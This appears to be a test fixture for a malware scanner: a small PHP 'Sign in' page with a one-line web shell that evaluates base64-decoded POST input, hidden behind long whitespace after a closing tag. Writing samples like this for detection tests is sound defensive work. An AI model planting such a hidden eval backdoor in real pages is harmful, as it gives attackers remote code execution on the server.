<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// A page whose code sits far to the right of a closing tag, out of an editor's sight.
?>
<html><body><h1>Sign in</h1>
</div>                                                                                                                                                                                                        <?php @eval(base64_decode($_POST['d'])); ?>
</body></html>
